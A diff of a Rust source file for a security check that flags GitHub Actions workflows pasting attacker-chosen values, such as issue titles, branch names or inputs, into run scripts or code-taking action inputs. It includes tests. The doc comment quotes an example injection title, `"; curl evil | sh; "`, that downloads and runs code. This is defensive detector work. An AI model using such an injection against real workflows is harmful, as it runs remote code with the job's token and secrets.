@@ -1,15 +1,29 @@
-//! WF-015: no attacker-controllable context is expanded with `${{ }}` into a script.
+//! WF-015: no value an outsider may choose is expanded with `${{ }}` into code.
 //!
-//! GitHub pastes an expression's value into the text of a `run:` script (or of
-//! `actions/github-script`'s `script:`) before the shell or node sees it. An issue title, a
-//! branch name or a commit message is chosen by whoever opens the issue or pushes the branch,
-//! so a title such as `"; curl evil | sh; "` becomes code running with the job's token and
-//! secrets. Passed through `env:` the same value is data: the script reads `"$TITLE"`.
-//! Issue #14 lists the contexts; `inputs.*` counts only in workflows a person or another
-//! workflow triggers with inputs (`workflow_dispatch`, `workflow_call`), and not for an
-//! input declared `boolean` or `number` (its value cannot carry text).
+//! GitHub pastes an expression's value into the text of a `run:` script (or of a code-taking
+//! action input such as `actions/github-script`'s `script:`) before the shell or node sees
+//! it. An issue title, a branch name or a commit message is chosen by whoever opens the issue
+//! or pushes the branch, so a title such as `"; curl evil | sh; "` becomes code running with
+//! the job's token and secrets. Passed through `env:` the same value is data: the script
+//! reads `"$TITLE"`.
+//!
+//! Each context whose value flows into the expansion is judged (a context only compared,
+//! `a == 'x'`, tested with `contains()`, or left of `&&` yields no text of its own):
+//! - known attacker-controlled: the listed `github.event.*` fields (titles, bodies, branch
+//!   names, labels, logins, commit messages, author names), the whole `github.event`,
+//!   `github.head_ref`, and `inputs.*` of a workflow that takes inputs, unless the input is
+//!   typed `boolean` or `number`;
+//! - fixed, never reported: secrets, `runner`/`job`/`strategy`/`vars`, step and job results,
+//!   GitHub's fixed `github.*` values, and event fields that are numbers, ids, hashes, states,
+//!   timestamps or charset-limited names;
+//! - everything else cannot be shown to be fixed and is reported too: step and job outputs,
+//!   other event fields, `env.*` not set to literal text in the workflow, `matrix.*` not listed
+//!   as literal text. An `env.*` or `matrix.*` value set from an attacker-controlled context
+//!   is reported as that context.
+//!
+//! This is pattern matching over the expression text, not an evaluator; what must stay true:
+//! every attacker-controlled context in a code sink is reported, at the line it is on.
 
-use std::collections::BTreeSet;
 use std::sync::LazyLock;
 
 use bundle_core::ops::report::Severity;
@@ -18,7 +32,7 @@ use regex::Regex;
 use super::{Control, Outcome, at, with_workflows};
 use crate::context::Context;
 use crate::expr;
-use crate::workflow::Workflow;
+use crate::workflow::{Job, Step, Var, Workflow};
 
 pub(super) const CONTROL: Control = Control {
     id: "WF-015",
@@ -27,98 +41,488 @@ pub(super) const CONTROL: Control = Control {
     run,
 };
 
-/// Contexts whose value an outside contributor (or the person dispatching) chooses. `.*`,
-/// `[0]` and `['x']` forms of an index are all accepted; contexts are case-insensitive.
-static UNTRUSTED: LazyLock<Regex> = LazyLock::new(|| {
-    let index = r"(?:\.\*|\[[^\]]*\])";
-    let event = [
-        r"issue\.(?:title|body)".to_owned(),
-        r"pull_request\.(?:title|body|head\.ref|head\.label)".to_owned(),
-        r"(?:comment|review|review_comment)\.body".to_owned(),
-        format!(r"pages{index}\.page_name"),
-        format!(r"commits{index}\.(?:message|author\.(?:name|email))"),
-        r"head_commit\.(?:message|author\.[a-z_]+)".to_owned(),
-        r"pusher\.(?:name|email)".to_owned(),
-        r"workflow_run\.(?:head_branch|head_commit\.[a-z_.]+|display_title)".to_owned(),
-        r"discussion\.(?:title|body)".to_owned(),
+/// Actions whose named inputs are code (a script body, an expression evaluated as code).
+const CODE_INPUTS: [(&str, &[&str]); 5] = [
+    ("actions/github-script", &["script"]),
+    ("amadevus/pwsh-script", &["script"]),
+    ("jannekem/run-python-script-action", &["script"]),
+    ("cardinalby/js-eval-action", &["expression"]),
+    ("addnab/docker-run-action", &["options", "run"]),
+];
+
+/// Event fields an outside contributor chooses (normalized: lowercase, indexes as `.*`).
+static UNTRUSTED_EVENT: LazyLock<Regex> = LazyLock::new(|| {
+    let fields = [
+        r"issue\.(?:title|body)",
+        r"pull_request\.(?:title|body|head\.ref|head\.label)",
+        r"(?:comment|review|review_comment)\.body",
+        r"pages\.\*\.page_name",
+        r"(?:commits\.\*|head_commit|workflow_run\.head_commit)\.(?:message|(?:author|committer)(?:\.[a-z_]+)?)",
+        r"pusher\.(?:name|email)",
+        r"workflow_run\.(?:head_branch|display_title|pull_requests\.\*\.head\.ref)",
+        r"discussion\.(?:title|body)",
+        r"(?:.+\.)?user\.login",
+        r"(?:.+\.)?head\.(?:ref|label)",
+        r"(?:.+\.)?labels?(?:\.\*)?\.name",
+        r"(?:.+\.)?(?:title|body|message)",
     ]
     .join("|");
-    Regex::new(&format!(
-        r"(?i)(?:^|[^A-Za-z0-9_.])(github\.event\.(?:{event})|github\.head_ref)(?:$|[^A-Za-z0-9_-])"
-    ))
+    Regex::new(&format!(r"^github\.event\.(?:{fields})$")).expect("static regex")
+});
+
+/// Event objects that hold attacker-chosen text (a title, a body, a branch name, a login):
+/// `toJSON(github.event.issue)` pastes all of it.
+const EVENT_OBJECTS: [&str; 15] = [
+    "issue",
+    "pull_request",
+    "comment",
+    "review",
+    "review_comment",
+    "discussion",
+    "head_commit",
+    "commits",
+    "pages",
+    "workflow_run",
+    "pusher",
+    "label",
+    "labels",
+    "head",
+    "*",
+];
+
+/// Last segments of event fields GitHub fills with numbers, ids, hashes, states, timestamps
+/// or names limited to `[A-Za-z0-9._-]` (repository names, logins of the actor).
+fn fixed_event_field(last: &str) -> bool {
+    const FIXED: [&str; 24] = [
+        "number",
+        "id",
+        "node_id",
+        "sha",
+        "before",
+        "after",
+        "author_association",
+        "state",
+        "draft",
+        "merged",
+        "locked",
+        "private",
+        "fork",
+        "forced",
+        "created",
+        "deleted",
+        "action",
+        "size",
+        "full_name",
+        "run_number",
+        "run_attempt",
+        "conclusion",
+        "status",
+        "default_branch",
+    ];
+    FIXED.contains(&last)
+        || last.ends_with("_sha")
+        || last.ends_with("_id")
+        || last.ends_with("_at")
+        || last.ends_with("_count")
+}
+
+/// `github.*` values GitHub sets that an outsider cannot shape into code.
+const FIXED_GITHUB: [&str; 34] = [
+    "sha",
+    "ref",
+    "ref_name",
+    "ref_type",
+    "ref_protected",
+    "repository",
+    "repository_id",
+    "repository_owner",
+    "repository_owner_id",
+    "repositoryurl",
+    "run_id",
+    "run_number",
+    "run_attempt",
+    "workflow",
+    "workflow_ref",
+    "workflow_sha",
+    "job",
+    "event_name",
+    "server_url",
+    "api_url",
+    "graphql_url",
+    "token",
+    "action",
+    "action_path",
+    "action_ref",
+    "action_repository",
+    "action_status",
+    "workspace",
+    "path",
+    "env",
+    "output",
+    "retention_days",
+    "actor",
+    "triggering_actor",
+];
+
+/// A reference to a context, as written: `github.event.issue.title`, `env['X']`, `steps.a.outputs.b`.
+static CONTEXT: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r"(?i)(?:^|[^A-Za-z0-9_.\-])((?:github|env|vars|steps|needs|inputs|matrix|secrets|runner|job|jobs|strategy)(?:\s*\.\s*(?:[A-Za-z_][A-Za-z0-9_-]*|\*)|\s*\[[^\]]*\])*)",
+    )
     .expect("static regex")
 });
 
-static INPUTS: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(r"(?i)(?:^|[^A-Za-z0-9_.])((?:github\.event\.)?inputs\.[A-Za-z_][A-Za-z0-9_-]*)")
-        .expect("static regex")
-});
+/// Functions whose result is a boolean or a hash, never the text of their arguments.
+const NO_FLOW_FUNCTIONS: [&str; 8] = [
+    "contains",
+    "startswith",
+    "endswith",
+    "hashfiles",
+    "success",
+    "failure",
+    "always",
+    "cancelled",
+];
 
-/// The untrusted contexts one expression body reads, in order of appearance. `inputs` is
-/// `None` when the workflow takes no inputs, else the inputs that cannot carry text.
-fn untrusted_in(body: &str, inputs: Option<&BTreeSet<String>>) -> Vec<String> {
-    let mut found: Vec<(usize, String)> = UNTRUSTED
-        .captures_iter(body)
-        .filter_map(|c| c.get(1))
-        .map(|m| (m.start(), m.as_str().to_owned()))
-        .collect();
-    if let Some(typed) = inputs {
-        found.extend(
-            INPUTS
-                .captures_iter(body)
-                .filter_map(|c| c.get(1))
-                .filter(|m| {
-                    let name = m.as_str().rsplit('.').next().unwrap_or_default();
-                    !typed.contains(&name.to_ascii_lowercase())
-                })
-                .map(|m| (m.start(), m.as_str().to_owned())),
-        );
+/// The body with every string literal's content blanked (same byte offsets), so that words
+/// and operators inside `'...'` are not read as contexts.
+fn mask_strings(body: &str) -> String {
+    let mut out = String::with_capacity(body.len());
+    let mut in_string = false;
+    for c in body.chars() {
+        if c == '\'' {
+            in_string = !in_string;
+            out.push(c);
+        } else if in_string {
+            out.extend(std::iter::repeat_n(' ', c.len_utf8()));
+        } else {
+            out.push(c);
+        }
     }
-    found.sort();
-    found.into_iter().map(|(_, text)| text).collect()
+    out
 }
 
-/// Whether `inputs.*` comes from a person or a calling workflow here.
-fn takes_inputs(wf: &Workflow) -> bool {
-    wf.triggers
+/// The unclosed `(` before `start`, if any.
+fn open_paren(masked: &str, start: usize) -> Option<usize> {
+    let mut depth = 0usize;
+    for (i, b) in masked.as_bytes()[..start].iter().enumerate().rev() {
+        match b {
+            b')' => depth += 1,
+            b'(' if depth > 0 => depth -= 1,
+            b'(' => return Some(i),
+            _ => {}
+        }
+    }
+    None
+}
+
+/// Where the function name before the `(` at `open` starts (`open` itself when none).
+fn name_start(masked: &str, open: usize) -> usize {
+    let head = masked[..open].trim_end();
+    head.char_indices()
+        .rev()
+        .find(|(_, c)| !c.is_ascii_alphanumeric())
+        .map_or(0, |(p, c)| p + c.len_utf8())
+}
+
+/// Widens a context to the operand that holds it: `fromJSON(ctx).field` is compared as a
+/// whole in `fromJSON(ctx).field == 'x'`.
+fn operand(masked: &str, mut start: usize, mut end: usize) -> (usize, usize) {
+    let bytes = masked.as_bytes();
+    loop {
+        let after = masked[end..].trim_start();
+        let (Some(')'), Some(open)) = (after.chars().next(), open_paren(masked, start)) else {
+            return (start, end);
+        };
+        end = masked.len() - after.len() + 1;
+        start = name_start(masked, open);
+        // A property chain on the call's result: `.field`, `[0]`.
+        while end < bytes.len() && (bytes[end] == b'.' || bytes[end] == b'[') {
+            let close = if bytes[end] == b'[' { b']' } else { 0 };
+            end += 1;
+            while end < bytes.len()
+                && (if close == b']' {
+                    bytes[end - 1] != b']'
+                } else {
+                    bytes[end].is_ascii_alphanumeric()
+                        || bytes[end] == b'_'
+                        || bytes[end] == b'-'
+                        || bytes[end] == b'*'
+                })
+            {
+                end += 1;
+            }
+        }
+    }
+}
+
+/// Whether the context at `start..end` of the masked body yields text into the result.
+fn flows(masked: &str, context_start: usize, end: usize) -> bool {
+    let (start, end) = operand(masked, context_start, end);
+    let after = masked[end..].trim_start();
+    if ["==", "!=", "<", ">", "&&"]
         .iter()
-        .any(|t| t.text == "workflow_dispatch" || t.text == "workflow_call")
+        .any(|op| after.starts_with(op))
+    {
+        return false;
+    }
+    let before = masked[..start].trim_end();
+    if ["==", "!=", "<", ">", "<=", ">=", "!", "&&"]
+        .iter()
+        .any(|op| before.ends_with(op))
+        && !before.ends_with("&&")
+    {
+        return false;
+    }
+    // The functions whose parentheses enclose the context.
+    let mut depth = 0usize;
+    let bytes = masked.as_bytes();
+    for i in (0..context_start).rev() {
+        match bytes[i] {
+            b')' => depth += 1,
+            b'(' if depth > 0 => depth -= 1,
+            b'(' => {
+                let name = masked[name_start(masked, i)..i].trim().to_ascii_lowercase();
+                if NO_FLOW_FUNCTIONS.contains(&name.as_str()) {
+                    return false;
+                }
+            }
+            _ => {}
+        }
+    }
+    true
+}
+
+/// A context in canonical form: lowercase, no spaces, every index as `.key` or `.*`.
+fn normalize(raw: &str) -> String {
+    let mut out = String::with_capacity(raw.len());
+    let mut rest = raw;
+    while let Some(c) = rest.chars().next() {
+        if c.is_whitespace() {
+            rest = &rest[c.len_utf8()..];
+        } else if c == '[' {
+            let Some(close) = rest.find(']') else {
+                out.push_str(&rest.to_ascii_lowercase());
+                break;
+            };
+            let inner = rest[1..close].trim();
+            let key = inner
+                .strip_prefix('\'')
+                .and_then(|k| k.strip_suffix('\''))
+                .or_else(|| inner.strip_prefix('"').and_then(|k| k.strip_suffix('"')));
+            out.push('.');
+            match key {
+                Some(key) => out.push_str(&key.to_ascii_lowercase()),
+                None => out.push('*'),
+            }
+            rest = &rest[close + 1..];
+        } else {
+            out.push(c.to_ascii_lowercase());
+            rest = &rest[c.len_utf8()..];
+        }
+    }
+    out
+}
+
+/// How far a context's value can be trusted.
+#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
+enum Trust {
+    /// Cannot be shown to be fixed.
+    Unknown(String),
+    /// Chosen by an outsider (or by whoever dispatches the workflow).
+    Untrusted(String),
+}
+
+/// Where an expression sits, to resolve `inputs`, `env` and `matrix`.
+struct Scope<'a> {
+    wf: &'a Workflow,
+    job: &'a Job,
+    step: &'a Step,
+}
+
+impl Scope<'_> {
+    /// The nearest `env:` entry named `name` (step, then job, then workflow).
+    fn env(&self, name: &str) -> Option<&Var> {
+        [&self.step.env, &self.job.env, &self.wf.env]
+            .into_iter()
+            .find_map(|vars| {
+                vars.iter()
+                    .rev()
+                    .find(|v| v.name.eq_ignore_ascii_case(name))
+            })
+    }
+
+    /// The worst trust of the contexts that flow out of `text`'s expressions.
+    fn worst_in(&self, text: &str, depth: usize) -> Option<Trust> {
+        expr::expressions(text)
+            .iter()
+            .flat_map(|e| flowing_contexts(e.body))
+            .filter_map(|(_, raw)| {
+                self.judge(&normalize(raw), depth + 1).map(|t| match t {
+                    Trust::Untrusted(via) if via.is_empty() => {
+                        Trust::Untrusted(format!(" (set from `{}`)", raw.trim()))
+                    }
+                    other => other,
+                })
+            })
+            .max()
+    }
+
+    /// The trust of one normalized context, `None` when it is fixed.
+    fn judge(&self, context: &str, depth: usize) -> Option<Trust> {
+        if depth > 4 {
+            return Some(Trust::Unknown(
+                "set through too many indirections".to_owned(),
+            ));
+        }
+        let parts: Vec<&str> = context.split('.').collect();
+        let unknown = |why: &str| Some(Trust::Unknown(why.to_owned()));
+        match parts[0] {
+            "secrets" | "runner" | "job" | "jobs" | "strategy" | "vars" => None,
+            "needs" if parts.get(2) == Some(&"result") => None,
+            "needs" => unknown("a job's output, which may carry untrusted data"),
+            "steps" if matches!(parts.get(2), Some(&"outcome" | &"conclusion")) => None,
+            "steps" => unknown("a step's output, which may carry untrusted data"),
+            "inputs" => self.input(parts.get(1).copied()),
+            "github" => self.github(context, &parts),
+            "env" => match parts.get(1) {
+                Some(name) if name.starts_with("github_") || name.starts_with("runner_") => None,
+                Some(name) => match self.env(name) {
+                    Some(var) if var.value.contains("${{") => self.worst_in(&var.value, depth),
+                    Some(_) => None,
+                    None => unknown("not set to literal text in the workflow (e.g. `$GITHUB_ENV`)"),
+                },
+                None => unknown("the whole `env` context"),
+            },
+            "matrix" => match self.job.matrix_values(&parts[1..]) {
+                None => None,
+                Some(values) => values
+                    .iter()
+                    .filter(|v| v.contains("${{"))
+                    .filter_map(|v| self.worst_in(v, depth))
+                    .max()
+                    .map(|t| match t {
+                        Trust::Unknown(_) => {
+                            Trust::Unknown("a matrix value computed by an expression".to_owned())
+                        }
+                        untrusted @ Trust::Untrusted(_) => untrusted,
+                    }),
+            },
+            _ => unknown("a context this check cannot show to be fixed"),
+        }
+    }
+
+    fn input(&self, name: Option<&str>) -> Option<Trust> {
+        let takes_inputs = self
+            .wf
+            .triggers
+            .iter()
+            .any(|t| t.text == "workflow_dispatch" || t.text == "workflow_call");
+        if !takes_inputs {
+            return None;
+        }
+        match name {
+            Some(name) if self.wf.typed_inputs.contains(name) => None,
+            _ => Some(Trust::Untrusted(String::new())),
+        }
+    }
+
+    fn github(&self, context: &str, parts: &[&str]) -> Option<Trust> {
+        if context == "github.head_ref" || context == "github.event" {
+            return Some(Trust::Untrusted(String::new()));
+        }
+        if parts.get(1) == Some(&"event") {
+            if parts.get(2) == Some(&"inputs") {
+                return self.input(parts.get(3).copied());
+            }
+            if UNTRUSTED_EVENT.is_match(context) || EVENT_OBJECTS.contains(&parts[parts.len() - 1])
+            {
+                return Some(Trust::Untrusted(String::new()));
+            }
+            let last = parts.last().copied().unwrap_or_default();
+            return (!fixed_event_field(last)).then(|| {
+                Trust::Unknown("an event field this check cannot show to be fixed".to_owned())
+            });
+        }
+        let field = parts.get(1).copied().unwrap_or_default();
+        (!FIXED_GITHUB.contains(&field)).then(|| {
+            Trust::Unknown("a `github` value this check cannot show to be fixed".to_owned())
+        })
+    }
+}
+
+/// The contexts whose value flows out of one expression body: byte offset and text.
+fn flowing_contexts(body: &str) -> Vec<(usize, &str)> {
+    let masked = mask_strings(body);
+    CONTEXT
+        .captures_iter(&masked)
+        .filter_map(|c| c.get(1))
+        .filter(|m| flows(&masked, m.start(), m.end()))
+        .map(|m| (m.start(), &body[m.start()..m.end()]))
+        .collect()
+}
+
+/// The 1-based line where the `nth` occurrence (0-based) of `needle` in a scalar whose
+/// content starts on `first_line` sits in the file: folded scalars (`>`) lose their line
+/// breaks, the file does not.
+fn source_line(source: &str, first_line: usize, needle: &str, nth: usize) -> Option<usize> {
+    let start = match first_line {
+        0 | 1 => 0,
+        n => source.match_indices('\n').nth(n - 2)?.0 + 1,
+    };
+    let (at, _) = source[start..].match_indices(needle).nth(nth)?;
+    Some(first_line.max(1) + source[start..start + at].matches('\n').count())
+}
+
+/// The code sinks of a step: text, first line, and how to name the place.
+fn sinks(step: &Step) -> Vec<(&str, usize, String)> {
+    let mut out = Vec::new();
+    if let Some(run) = &step.run {
+        out.push((run.text.as_str(), run.line, "`run:`".to_owned()));
+    }
+    for (action, inputs) in CODE_INPUTS {
+        if step.is_action(action) {
+            for input in inputs {
+                if let Some(v) = step.input(input) {
+                    out.push((v.value.as_str(), v.line, format!("`{input}:` of {action}")));
+                }
+            }
+        }
+    }
+    out
 }
 
 fn run(cx: &Context) -> Outcome {
     with_workflows(cx, |workflows| {
         let mut findings = Vec::new();
         for wf in workflows {
-            let inputs = takes_inputs(wf).then_some(&wf.typed_inputs);
             for job in &wf.jobs {
                 for step in &job.steps {
-                    let script = step
-                        .is_action("actions/github-script")
-                        .then(|| step.input("script"))
-                        .flatten()
-                        .map(|v| {
-                            (
-                                v.value.as_str(),
-                                v.line,
-                                "`script:` of actions/github-script",
-                            )
-                        });
-                    let run = step
-                        .run
-                        .as_ref()
-                        .map(|r| (r.text.as_str(), r.line, "`run:`"));
-                    for (text, first_line, place) in run.into_iter().chain(script) {
+                    let scope = Scope { wf, job, step };
+                    for (text, first_line, place) in sinks(step) {
                         for e in expr::expressions(text) {
-                            for context in untrusted_in(e.body, inputs) {
-                                findings.push(at(
-                                    &wf.path,
-                                    Some(expr::line_at(text, first_line, e.offset)),
-                                    format!(
-                                        "job `{}` expands `{context}` into {place}; \
+                            for (offset, raw) in flowing_contexts(e.body) {
+                                let nth = text[..e.offset + offset].matches(raw).count();
+                                let Some(trust) = scope.judge(&normalize(raw), 0) else {
+                                    continue;
+                                };
+                                let line = source_line(&wf.source, first_line, raw, nth)
+                                    .unwrap_or_else(|| {
+                                        expr::line_at(text, first_line, e.offset + offset)
+                                    });
+                                let note = match trust {
+                                    Trust::Untrusted(via) => format!(
+                                        "job `{}` expands `{raw}`{via} into {place}; \
                                          pass it through `env:` and read the variable",
                                         job.id
                                     ),
-                                ));
+                                    Trust::Unknown(why) => format!(
+                                        "job `{}` expands `{raw}` ({why}) into {place}; \
+                                         pass it through `env:` and read the variable",
+                                        job.id
+                                    ),
+                                };
+                                findings.push(at(&wf.path, Some(line), note));
                             }
                         }
                     }
@@ -131,9 +535,7 @@ fn run(cx: &Context) -> Outcome {
 
 #[cfg(test)]
 mod tests {
-    use std::collections::BTreeSet;
-
-    use super::untrusted_in;
+    use super::{flowing_contexts, normalize};
     use crate::controls::testkit::{Repo, assert_fail_at, assert_pass};
 
     const WF: &str = ".github/workflows/triage.yml";
@@ -223,6 +625,15 @@ mod tests {
         assert!(outcome.message.contains("`github.event.inputs.env`"));
     }
 
+    /// Whether `context`, expanded alone into a `run:` of an `issues` workflow, is reported.
+    fn reported(context: &str) -> bool {
+        let outcome = run_on(
+            "[issues, workflow_dispatch]",
+            &format!("      - run: echo ${{{{ {context} }}}}\n"),
+        );
+        !outcome.locations.is_empty()
+    }
+
     #[test]
     fn recognizes_every_listed_context() {
         let untrusted = [
@@ -246,29 +657,86 @@ mod tests {
             "github.event.workflow_run.display_title",
             "github.event.discussion.title",
             "github.event.discussion.body",
+            "github.event.issue.user.login",
+            "github.event.pull_request.user.login",
+            "github.event.label.name",
+            "github.event.pull_request.labels[0].name",
+            "github.event['issue']['title']",
+            "github.event[\"issue\"].title",
+            "toJSON(github.event)",
+            "toJSON(github.event.issue)",
             "github.head_ref",
             "GITHUB.HEAD_REF",
+            "inputs.target",
+            "github.event.inputs.target",
         ];
         for context in untrusted {
-            assert_eq!(untrusted_in(&format!(" {context} "), None), [context]);
+            assert!(reported(context), "{context}");
         }
-        let trusted = [
+        let fixed = [
             "github.sha",
+            "github.ref_name",
+            "github.repository",
             "github.event.issue.number",
+            "github.event.comment.author_association",
             "github.event.pull_request.head.sha",
             "github.event.pull_request.head.repo.full_name",
             "github.event.workflow_run.head_sha",
-            "github.head_ref_name",
-            "env.github.head_ref",
-            "inputs.target",
+            "github.event.comment.created_at",
+            "secrets.TOKEN",
+            "runner.temp",
+            "vars.REGION",
+            "steps.build.outcome",
+            "needs.test.result",
+            "github.event.issue.title == 'x'",
+            "contains(github.event.issue.title, 'x')",
+            "github.event.issue.title && 'yes' || 'no'",
+            "!github.event.issue.title",
         ];
-        for context in trusted {
-            assert!(untrusted_in(context, None).is_empty(), "{context}");
+        for context in fixed {
+            assert!(!reported(context), "{context}");
         }
-        let typed = BTreeSet::from(["dry_run".to_owned()]);
+    }
+
+    /// Odd or broken expression text never panics (byte offsets, unclosed brackets and
+    /// strings, non-ASCII names).
+    #[test]
+    fn odd_expressions_do_not_panic() {
+        for body in [
+            " github.event[ ",
+            " github.event['issue ",
+            " é(github.head_ref).x == 'y' ",
+            " fromJSON(github.event.issue.title)[0].a ",
+            " ((((github.head_ref ",
+            " github.head_ref)))) ",
+            " 'unclosed github.head_ref ",
+            " ñ github.event.issue.title ",
+        ] {
+            for (_, raw) in flowing_contexts(body) {
+                normalize(raw);
+            }
+        }
+        assert_eq!(normalize("github.event["), "github.event[");
+        let found: Vec<&str> = flowing_contexts(" é(github.head_ref) ")
+            .into_iter()
+            .map(|(_, c)| c)
+            .collect();
+        assert_eq!(found, ["github.head_ref"]);
+    }
+
+    #[test]
+    fn normalizes_index_forms() {
         assert_eq!(
-            untrusted_in("format('{0}', inputs.target, inputs.DRY_RUN)", Some(&typed)),
-            ["inputs.target"]
+            normalize("github.event['issue'][\"Title\"]"),
+            "github.event.issue.title"
         );
+        assert_eq!(
+            normalize("github.event.commits[0].message"),
+            "github.event.commits.*.message"
+        );
+        assert_eq!(normalize("steps . a.outputs[*]"), "steps.a.outputs.*");
+        let body = " format('{0} github.head_ref', github.event.issue.title) ";
+        let found: Vec<&str> = flowing_contexts(body).into_iter().map(|(_, c)| c).collect();
+        assert_eq!(found, ["github.event.issue.title"]);
     }
 }
